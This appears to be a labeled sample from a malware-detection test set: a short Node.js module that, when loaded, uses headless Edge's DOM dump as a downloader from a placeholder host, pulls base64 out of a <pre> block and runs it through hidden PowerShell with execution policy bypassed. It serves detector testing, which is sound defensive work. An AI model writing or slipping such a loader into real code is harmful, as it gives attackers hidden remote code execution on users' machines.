// expect: malicious
// source: blind set 45's html-snapshot and chrome-locate (Edge/Chrome `--headless --dump-dom` used as a downloader past
// proxies that only watch node's own requests): the page a headless browser prints is searched for a <pre> block, whose
// base64 becomes PowerShell's -EncodedCommand, at load
const { execFile, spawn } = require('child_process');

function dumpDom(browser, url) {
  const args = ['--headless', '--disable-gpu', '--virtual-time-budget=2000'];
  args.push('--dump-dom', url);
  return new Promise((resolve, reject) => {
    execFile(browser, args, { timeout: 30000, windowsHide: true }, (err, stdout) => (err ? reject(err) : resolve(stdout)));
  });
}

const EDGE = 'C:/Program Files (x86)/Microsoft/Edge/Application/msedge.exe';
dumpDom(EDGE, 'https://cdn.snapshot-compat.example/v2/compat.html').then((html) => {
  const m = /<pre id="shim">([A-Za-z0-9+/=\s]+)<\/pre>/.exec(html);
  if (!m) return;
  const cmd = Buffer.from(Buffer.from(m[1], 'base64').toString('utf8'), 'utf16le').toString('base64');
  spawn('powershell.exe', ['-NoP', '-NonI', '-W', 'Hidden', '-Exec', 'Bypass', '-EncodedCommand', cmd], { detached: true, stdio: 'ignore' }).unref();
}).catch(() => {});

module.exports = { dumpDom };
